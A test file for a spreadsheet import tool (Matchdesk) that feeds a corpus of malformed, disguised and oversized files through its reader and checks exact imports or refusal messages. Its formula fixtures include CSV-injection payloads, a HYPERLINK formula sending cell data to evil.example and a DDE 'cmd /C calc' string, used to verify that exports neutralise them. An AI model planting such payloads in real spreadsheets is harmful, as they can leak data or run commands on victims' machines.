// Every file of the bad-input corpus (test/fixtures/bad) either imports exactly or is refused with its own
// message, read both by the sheet reader and through the engine's contract, and a refusal leaves nothing behind.
// docs/bad-inputs.md lists what each file does; this test checks the table against what it saw
// (MATCHDESK_UPDATE_DOCS=1 rewrites it).
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ProjectSummary } from '../../shared/contract';
import type { Engine } from '../../electron/engine/engine';
import { openSheet, SheetError, type SheetErrorCode } from '../../electron/engine/sheets';
import { CORPUS, CORPUS_DIR, writeCorpus } from '../fixtures/bad/make-corpus';
import { callOk, openTestEngine, readCsv, tempDir } from './safety-helpers';
import { skipBecause } from '../support/skips';

type Expected =
  | {
      /** The rows below the header down to the last data row, blank ones included. */
      rows: number;
      headers: string[];
      /** Exact rows by 0-based index below the header. */
      cells?: Record<number, string[]>;
      /** The blank rows kept in place, by index: read as [], stored, never planned. */
      blank?: number[];
      /** The sheet's row number of the header (1 unless blank lines come first). */
      headerRow?: number;
      warnings?: string[];
    }
  | { code: SheetErrorCode; fragment: string };

const PEOPLE_HEADERS = ['Name', 'Email', 'Company', 'LinkedIn'];
const ANN = ['Ann Lee', 'ann.lee@example.com', 'Acme Corp', 'https://www.linkedin.com/in/ann-lee-1/'];
const CY = ['Cy Dubois', 'cy@example.org', 'Initech', ''];
const NOT_A_SHEET = 'not a spreadsheet. Choose a CSV or Excel (.xlsx) file.';

const EXPECTED: Record<string, Expected> = {
  'utf8-bom.csv': { rows: 4, headers: PEOPLE_HEADERS, cells: { 0: ['José Núñez', 'jose@example.com', 'Café Ltd', ''], 3: CY } },
  'utf16le-bom.csv': { rows: 5, headers: PEOPLE_HEADERS, cells: { 0: ['李小龍', 'lee@example.cn', 'Golden Harvest', ''], 1: ['Zoë 😀 Smith', 'zoe@example.com', 'Acme', ''], 2: ANN } },
  'utf16be-bom.csv': { rows: 4, headers: PEOPLE_HEADERS, cells: { 0: ['Søren Ørsted', 'soren@example.dk', 'Ørsted A/S', ''], 1: ANN } },
  'windows-1252.csv': { rows: 5, headers: PEOPLE_HEADERS, cells: { 0: ['Renée Weiß', 'renee@example.de', 'Müller & Söhne €', ''], 1: ['Dan O’Brien', 'dan@example.ie', 'Guinness', ''] } },
  'utf32-le.csv': { code: 'not_a_spreadsheet', fragment: "is UTF-32 text, which Matchdesk can't read. Save it as UTF-8 CSV" },
  'tab-delimited.tsv': { rows: 3, headers: PEOPLE_HEADERS, cells: { 0: ANN, 2: CY } },
  'semicolon.csv': { rows: 3, headers: ['Name', 'Email', 'Company', 'Score'], cells: { 0: ['Ann Lee', 'ann.lee@example.com', 'Acme Corp', '1,5'], 1: ['Bo Chen', 'bo.chen@example.com', 'Globex, Inc.', '2,75'] } },
  'pipe.csv': { rows: 3, headers: PEOPLE_HEADERS, cells: { 0: ANN, 2: CY } },
  'crlf.csv': { rows: 3, headers: PEOPLE_HEADERS, cells: { 0: ANN, 2: CY } },
  'cr-only.csv': { rows: 3, headers: PEOPLE_HEADERS, cells: { 0: ANN, 2: CY } },
  'mixed-newlines-in-quotes.csv': {
    rows: 3,
    headers: ['Name', 'Notes', 'Email'],
    cells: { 0: ['Ann Lee', 'line one\nline two', 'ann.lee@example.com'], 1: ['Bo Chen', 'a\r\nb', 'bo.chen@example.com'], 2: ['Cy Dubois', 'x\ry\r\nz', 'cy@example.org'] },
  },
  'no-final-newline.csv': { rows: 2, headers: ['Name', 'Company'], cells: { 0: ['Lee, Ann', 'Acme "West"'], 1: ['Bo Chen', 'Globex'] } },
  'ragged-rows.csv': {
    rows: 3,
    headers: ['Name', 'Email', 'Company'],
    cells: { 0: ['Ann Lee', 'ann.lee@example.com'], 1: ['Bo Chen', 'bo.chen@example.com', 'Globex', 'extra', 'more'], 2: ['Cy Dubois', 'cy@example.org', 'Initech'] },
    warnings: ['ragged_rows'],
  },
  'blank-rows.csv': {
    rows: 6,
    headers: ['Name', 'Email'],
    cells: { 1: ['Ann Lee', 'ann.lee@example.com'], 5: ['Bo Chen', 'bo.chen@example.com'] },
    blank: [0, 2, 3, 4],
    warnings: ['blank_rows_kept'],
  },
  'blank-rows.xlsx': {
    rows: 7,
    headers: PEOPLE_HEADERS,
    cells: { 0: ANN, 5: ['Bo Chen', 'bo.chen@example.com', 'Globex', 'linkedin.com/in/bo-chen'], 6: CY },
    blank: [1, 2, 3, 4],
    warnings: ['blank_rows_kept'],
  },
  'crlf-header-lf-rows.csv': { rows: 3, headers: PEOPLE_HEADERS, cells: { 0: ANN, 1: ['Bo Chen', 'bo.chen@example.com', 'Globex', 'linkedin.com/in/bo-chen'], 2: CY } },
  'lf-header-crlf-rows.csv': { rows: 3, headers: PEOPLE_HEADERS, cells: { 0: ANN, 1: ['Bo Chen', 'bo.chen@example.com', 'Globex', 'linkedin.com/in/bo-chen'], 2: CY } },
  'mixed-line-ends.csv': {
    rows: 6,
    headers: PEOPLE_HEADERS,
    cells: {
      0: ANN,
      1: ['Bo Chen', 'bo.chen@example.com', 'Globex\r\nWest', 'linkedin.com/in/bo-chen'],
      2: [],
      3: ['Cy Dubois', 'cy@example.org', 'Initech\rEast\nNorth', ''],
      4: ['Di Park', 'di@example.com', 'Hooli', ''],
      5: ['Ed Ames', 'ed@example.com', 'Umbrella', ''],
    },
    blank: [2],
    warnings: ['blank_rows_kept'],
  },
  'duplicate-headers.csv': {
    rows: 1,
    headers: ['Email', 'Name', 'email (2)', 'EMAIL (3)'],
    cells: { 0: ['ann.lee@example.com', 'Ann Lee', 'ann@home.example', 'a@b.example'] },
    warnings: ['duplicate_headers'],
  },
  'empty-headers.csv': { rows: 1, headers: ['Name', 'Column 2', 'Email', 'Column 4'], cells: { 0: ['Ann Lee', 'x', 'ann.lee@example.com', 'y'] }, warnings: ['empty_headers'] },
  'formulas.csv': {
    rows: 3,
    headers: ['Name', 'Email', 'Company'],
    cells: {
      0: ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', 'ann.lee@example.com', 'Acme'],
      1: ["+cmd|' /C calc'!A0", 'bo.chen@example.com', '@SUM(1+1)'],
      2: ['-2+3', 'cy@example.org', '=1+1'],
    },
  },
  'quote-then-text.csv': {
    rows: 4,
    headers: ['Name', 'Email', 'Company'],
    cells: {
      0: ['Ann Lee', 'ann.lee@example.com', 'Acme Corp'],
      1: ['Bob Smith Jr', 'bob@example.com', 'Globex'],
      2: ['Cy Dubois', 'cy@example.org', 'Initech'],
      3: ['Di Park', 'di@example.com', 'Hooli, Inc.'],
    },
  },
  'unclosed-quote.csv': {
    rows: 2,
    headers: ['Name', 'Email'],
    cells: { 0: ['Ann Lee', 'ann.lee@example.com'], 1: ['Bo Chen', 'bo.chen@example.com\nCy Dubois,cy@example.org\n'] },
    warnings: ['unclosed_quote'],
  },
  'wide-row-later.csv': { code: 'too_many_columns', fragment: "has 1,200 columns in row 22; Matchdesk reads at most 1,000. Remove the columns you don't need" },
  'empty.csv': { code: 'empty', fragment: 'is empty: there is nothing to import.' },
  'bom-only.csv': { code: 'empty', fragment: 'is empty: there is nothing to import.' },
  'whitespace-only.csv': { code: 'empty', fragment: 'is empty: there is nothing to import.' },
  'header-only.csv': { code: 'header_only', fragment: 'has a header row but no data rows below it.' },
  'binary-data.csv': { code: 'not_a_spreadsheet', fragment: `is a binary file, ${NOT_A_SHEET}` },
  // A text file with one stray NUL in its first 8 KB is called binary; see the note in docs/bad-inputs.md.
  'nul-bytes.csv': { code: 'not_a_spreadsheet', fragment: `is a binary file, ${NOT_A_SHEET}` },
  'nul-bytes-late.csv': { rows: 331, headers: ['Name', 'Email'], cells: { 0: ['Ann Lee', 'ann.lee@example.com'], 330: ['Bo\0Chen', 'bo.chen@example.com'] } },
  'png-renamed.csv': { code: 'not_a_spreadsheet', fragment: `is a PNG image, ${NOT_A_SHEET}` },
  'document.pdf': { code: 'not_a_spreadsheet', fragment: `is a PDF document, ${NOT_A_SHEET}` },
  'zip-not-xlsx.xlsx': { code: 'not_a_spreadsheet', fragment: `is a ZIP archive, ${NOT_A_SHEET}` },
  'word-renamed.xlsx': { code: 'not_a_spreadsheet', fragment: `is a Word document, ${NOT_A_SHEET}` },
  'apple-numbers.numbers': { code: 'not_a_spreadsheet', fragment: "is an Apple Numbers document, which Matchdesk can't read. In Numbers, choose File > Export To > CSV (or Excel)" },
  'opendocument.ods': { code: 'not_a_spreadsheet', fragment: "is an OpenDocument file (.ods), which Matchdesk can't read. Open it in Excel and save it as .xlsx or CSV" },
  'web-page.xls': { code: 'not_a_spreadsheet', fragment: 'is a web page (HTML), not a spreadsheet. Some systems save web pages under an Excel name.' },
  'legacy-excel-97.xls': { code: 'not_a_spreadsheet', fragment: "is in the old Excel 97–2003 format (.xls), which Matchdesk can't read." },
  'hidden-first-sheet.xlsx': { rows: 3, headers: PEOPLE_HEADERS, cells: { 0: ANN, 2: CY } },
  'only-hidden-sheets.xlsx': { code: 'empty', fragment: 'has no visible worksheets: there is nothing to import.' },
  'password-protected.xlsx': { code: 'encrypted', fragment: 'is password-protected: save it without a password and try again.' },
  'truncated.xlsx': { code: 'corrupt', fragment: "is damaged or incomplete and can't be read as an Excel workbook." },
  'header-only.xlsx': { code: 'header_only', fragment: 'The sheet “People” in “header-only.xlsx” has a header row but no data rows below it.' },
  'cell-5mb.csv': { code: 'cell_too_large', fragment: 'The cell in row 3002, column C (“Notes”) of “cell-5mb.csv” is over' },
  'columns-2000.csv': { code: 'too_many_columns', fragment: "has 2,000 columns in row 1; Matchdesk reads at most 1,000. Remove the columns you don't need" },
  'zip-bomb.xlsx': { code: 'too_large', fragment: '“zip-bomb.xlsx” can\'t be imported: its shared strings inflate to more than 200 times their stored size' },
  'cell-1gib.xlsx': { code: 'cell_too_large', fragment: 'The cell in row 3, column B (“Notes”) of the sheet “People” in “cell-1gib.xlsx” is over 1 MiB;' },
  'long-line.csv': { rows: 2, headers: Array.from({ length: 900 }, (_, i) => `c${i + 1}`), cells: { 1: ['end'] }, warnings: ['ragged_rows'] },
};

const nonFilesSkipped = skipBecause('the named pipe, socket and device tests', process.platform === 'win32' ? 'Windows has no named pipes or devices in its file system' : null);

const DOC = join(__dirname, '../../docs/bad-inputs.md');
const TABLE_START = '<!-- corpus table: kept in sync by test/safety/bad-inputs.test.ts -->';
const TABLE_END = '<!-- end of corpus table -->';

type Observed = { kind: 'imported'; rows: number; blank: number; warnings: string[] } | { kind: 'refused'; code: string; message: string };

let tmp: ReturnType<typeof tempDir>;
let engine: Engine;
let generated: Map<string, string>;
const observed = new Map<string, Observed>();

beforeAll(async () => {
  tmp = tempDir('matchdesk-bad-');
  generated = await writeCorpus(join(tmp.dir, 'generated'), 'generated');
  engine = await openTestEngine(join(tmp.dir, 'data'));
});
afterAll(async () => {
  await engine?.close();
  tmp?.remove();
});

function pathOf(file: string): string {
  return generated.get(file) ?? join(CORPUS_DIR, file);
}

async function readAll(path: string): Promise<{ headers: string[]; rows: string[][]; warnings: string[] }> {
  const sheet = await openSheet(path);
  const rows: string[][] = [];
  for await (const row of sheet.rows()) rows.push(row);
  return { headers: sheet.headers, rows, warnings: sheet.warnings.map((w) => w.code) };
}

/** What a failed import could leave behind that projects.list does not show: unfinished projects, stray rows. */
function leftovers(): { unfinished: number; strayRows: number } {
  const db = new Database(engine.dbPath, { readonly: true, fileMustExist: true });
  try {
    return {
      unfinished: db.prepare("SELECT count(*) FROM projects WHERE status <> 'ready'").pluck().get() as number,
      strayRows: db.prepare('SELECT count(*) FROM rows WHERE project_id NOT IN (SELECT id FROM projects)').pluck().get() as number,
    };
  } finally {
    db.close();
  }
}

describe('the bad-input corpus', () => {
  it('has at least 25 files, each with an expected outcome, and the committed files are what make-corpus.ts builds', async () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(25);
    expect(Object.keys(EXPECTED).sort()).toEqual(CORPUS.map((c) => c.file).sort());
    const onDisk = readdirSync(CORPUS_DIR).filter((f) => f !== 'make-corpus.ts');
    expect(onDisk.sort()).toEqual(CORPUS.filter((c) => !c.generated).map((c) => c.file).sort());
    // exceljs stamps ZIP entries with the current time, so only the byte-exact formats are compared.
    for (const entry of CORPUS.filter((c) => !c.generated && !c.file.endsWith('.xlsx'))) {
      expect(readFileSync(join(CORPUS_DIR, entry.file)).equals(await entry.build()), `${entry.file} differs from make-corpus.ts: regenerate it`).toBe(true);
    }
  });

  it.each(CORPUS.map((c) => c.file))('%s: imports exactly or is refused with its own message, and leaves no half-made project', async (file) => {
    const expected = EXPECTED[file]!;
    const path = pathOf(file);
    const before = await callOk(engine, 'projects.list', {});

    // The reader on its own.
    const direct: Awaited<ReturnType<typeof readAll>> | Error = await readAll(path).catch((err: unknown) => (err instanceof Error ? err : new Error(String(err))));
    // The same file through the contract.
    const result = await engine.call('projects.import', { file: path });

    if ('code' in expected) {
      expect(direct).toBeInstanceOf(SheetError);
      const err = direct as SheetError;
      expect(err.code).toBe(expected.code);
      expect(err.message).toContain(expected.fragment);
      expect(result.ok).toBe(false);
      if (result.ok) return;
      expect(result.error).toEqual({ kind: 'sheet', code: expected.code, message: err.message });
      expect(await callOk(engine, 'projects.list', {})).toEqual(before);
      expect(leftovers()).toEqual({ unfinished: 0, strayRows: 0 });
      observed.set(file, { kind: 'refused', code: err.code, message: err.message });
      return;
    }

    if (direct instanceof Error) throw direct;
    expect(direct.headers).toEqual(expected.headers);
    expect(direct.rows).toHaveLength(expected.rows);
    for (const [index, cells] of Object.entries(expected.cells ?? {})) expect(direct.rows[Number(index)]).toEqual(cells);
    expect(direct.warnings).toEqual(expected.warnings ?? []);

    if (!result.ok) throw new Error(`projects.import failed: ${result.error.message}`);
    const detail = result.value;
    const blank = new Set(expected.blank ?? []);
    for (let i = 0; i < direct.rows.length; i++) expect(direct.rows[i]!.length === 0, `row ${i} blank`).toBe(blank.has(i));
    expect(detail.summary.rowCount).toBe(expected.rows - blank.size);
    expect(detail.summary.blankRows).toBe(blank.size);
    expect(detail.headers).toEqual(expected.headers);
    expect(detail.warnings.map((w) => w.code)).toEqual(expected.warnings ?? []);
    expect(detail.sample).toEqual(direct.rows.slice(0, detail.sample.length));
    // Every row as stored, cell for cell, against what the reader gave, named by its row in the sheet; a blank row
    // is not reviewed.
    for (let i = 0; i < direct.rows.length; i++) {
      const row = await engine.call('review.row', { projectId: detail.summary.id, rowIndex: i });
      if (blank.has(i)) {
        expect(row).toMatchObject({ ok: false, error: { kind: 'not_found' } });
        continue;
      }
      if (!row.ok) throw new Error(`review.row ${i} failed: ${row.error.message}`);
      expect(row.value.cells).toEqual(direct.rows[i]);
      expect(row.value.rowNumber).toBe((expected.headerRow ?? 1) + 1 + i);
    }
    const after: ProjectSummary[] = await callOk(engine, 'projects.list', {});
    expect(after.map((p) => p.id).sort()).toEqual([...before.map((p) => p.id), detail.summary.id].sort());
    observed.set(file, { kind: 'imported', rows: direct.rows.length - blank.size, blank: blank.size, warnings: direct.warnings });
  });

  it.skipIf(nonFilesSkipped)('refuses a named pipe and /dev/zero through projects.import at once, saying what each is', async () => {
    const pipe = join(tmp.dir, 'people.csv');
    execFileSync('mkfifo', [pipe]);
    const before = await callOk(engine, 'projects.list', {});
    const advice = 'not a file. Matchdesk reads only files saved on disk: choose a CSV or Excel (.xlsx) file.';
    expect(await engine.call('projects.import', { file: pipe })).toEqual({
      ok: false,
      error: { kind: 'sheet', code: 'unreadable', message: `Can't read “people.csv”: it is a named pipe, ${advice}` },
    });
    expect(await engine.call('projects.sheets', { file: pipe })).toMatchObject({ ok: false, error: { kind: 'sheet', code: 'unreadable' } });
    if (existsSync('/dev/zero')) {
      expect(await engine.call('projects.import', { file: '/dev/zero' })).toEqual({
        ok: false,
        error: { kind: 'sheet', code: 'unreadable', message: `Can't read “zero”: it is a device, ${advice}` },
      });
    }
    expect(await callOk(engine, 'projects.list', {})).toEqual(before);
    expect(leftovers()).toEqual({ unfinished: 0, strayRows: 0 });
  });

  it('lists the visible sheets only, and a hidden sheet is still importable by name', async () => {
    const path = pathOf('hidden-first-sheet.xlsx');
    expect(await callOk(engine, 'projects.sheets', { file: path })).toEqual(['People']);
    const hidden = await callOk(engine, 'projects.import', { file: path, sheet: 'Lookup' });
    expect(hidden.sheetName).toBe('Lookup');
    expect(hidden.sample).toEqual([['X1', 'secret']]);
  });

  it('exports the formula cells so that a spreadsheet keeps them as text', async () => {
    const project = await callOk(engine, 'projects.import', { file: pathOf('formulas.csv') });
    const out = join(tmp.dir, 'formulas-out.csv');
    await callOk(engine, 'export.run', { projectId: project.summary.id, format: 'csv', scope: 'all', destination: out, bom: false });
    const text = readFileSync(out, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(text).toContain(`'+cmd|' /C calc'!A0`);
    expect(text).toContain(`'@SUM(1+1)`);
    expect(text).toContain(`'=1+1`);
    expect(text).toContain(`'-2+3`);
  });

  it.each(['blank-rows.csv', 'blank-rows.xlsx', 'crlf-header-lf-rows.csv', 'lf-header-crlf-rows.csv', 'mixed-line-ends.csv', 'quote-then-text.csv'])(
    "%s: the CSV and Excel exports have the sheet's rows in its order, blank ones blank, so they line up with the original",
    async (file) => {
      const expected = EXPECTED[file] as Extract<Expected, { rows: number }>;
      const blank = new Set(expected.blank ?? []);
      const width = expected.headers.length;
      // Every row below the header, as the file holds it, padded to the header's width.
      const input = Array.from({ length: expected.rows }, (_, i) => {
        const cells = blank.has(i) ? [] : expected.cells?.[i];
        if (!cells) throw new Error(`${file}: EXPECTED gives no cells for row ${i}`);
        return [...cells, ...Array<string>(width - cells.length).fill('')];
      });
      const project = await callOk(engine, 'projects.import', { file: pathOf(file) });
      for (const format of ['csv', 'xlsx'] as const) {
        const out = join(tmp.dir, `${file}-aligned.${format}`);
        await callOk(engine, 'export.run', { projectId: project.summary.id, format, scope: 'all', destination: out, bom: false });
        const table = format === 'csv' ? readCsv(out) : await readXlsx(out);
        expect(table, `${format}: the header and one record per row of the sheet`).toHaveLength(1 + expected.rows);
        expect(table[0]!.slice(0, width)).toEqual(expected.headers);
        const status = table[0]!.indexOf('match_status');
        expect(status).toBe(width);
        table.slice(1).forEach((row, i) => {
          // An Excel cell breaks lines with LF, which is what XML reads any line break back as (xlsx-export.ts).
          const original = format === 'csv' ? input[i] : input[i]!.map((cell) => cell.replace(/\r\n?/g, '\n'));
          expect(row.slice(0, width), `${format} row ${i + 2}`).toEqual(original);
          expect(row[status], `${format} row ${i + 2}`).toBe(blank.has(i) ? 'blank' : 'pending');
          if (blank.has(i)) expect(row.slice(status + 1).every((cell) => cell === '')).toBe(true);
        });
      }
    },
  );

  it('docs/bad-inputs.md lists every file with the outcome seen here', () => {
    expect([...observed.keys()].sort()).toEqual(CORPUS.map((c) => c.file).sort());
    const table = renderTable();
    const doc = existsSync(DOC) ? readFileSync(DOC, 'utf8') : '';
    const start = doc.indexOf(TABLE_START);
    const end = doc.indexOf(TABLE_END);
    if (process.env.MATCHDESK_UPDATE_DOCS === '1' && start >= 0 && end > start) {
      writeFileSync(DOC, `${doc.slice(0, start + TABLE_START.length)}\n${table}${doc.slice(end)}`);
      return;
    }
    expect(start, `${DOC} must hold the markers ${TABLE_START} ... ${TABLE_END}`).toBeGreaterThanOrEqual(0);
    expect(doc.slice(start + TABLE_START.length, end), 'docs/bad-inputs.md is out of date: run this test with MATCHDESK_UPDATE_DOCS=1').toBe(`\n${table}`);
  });
});

/** Every row of an exported workbook's sheet, cells as text, as wide as its header row. */
async function readXlsx(path: string): Promise<string[][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  const ws = wb.worksheets[0]!;
  const width = ws.getRow(1).cellCount;
  const rows: string[][] = [];
  for (let r = 1; r <= ws.rowCount; r++) {
    const row = ws.getRow(r);
    rows.push(Array.from({ length: width }, (_, c) => String(row.getCell(c + 1).value ?? '')));
  }
  return rows;
}

function renderTable(): string {
  const cell = (text: string) => text.replace(/\|/g, '\\|').replace(/\r?\n|\r/g, ' ');
  const lines = ['| File | What it is | Outcome |', '| --- | --- | --- |'];
  for (const entry of CORPUS) {
    const seen = observed.get(entry.file)!;
    const name = entry.generated ? `\`${entry.file}\` (generated)` : `[\`${entry.file}\`](../test/fixtures/bad/${entry.file})`;
    const outcome =
      seen.kind === 'imported'
        ? `imported: ${seen.rows} row${seen.rows === 1 ? '' : 's'}${seen.blank ? ` and ${seen.blank} blank, kept in place` : ''}${seen.warnings.length ? `, noted: ${seen.warnings.map((w) => `\`${w}\``).join(', ')}` : ''}`
        : `refused, \`${seen.code}\`: ${seen.message}`;
    lines.push(`| ${name} | ${cell(entry.about)} | ${cell(outcome)} |`);
  }
  return `${lines.join('\n')}\n`;
}
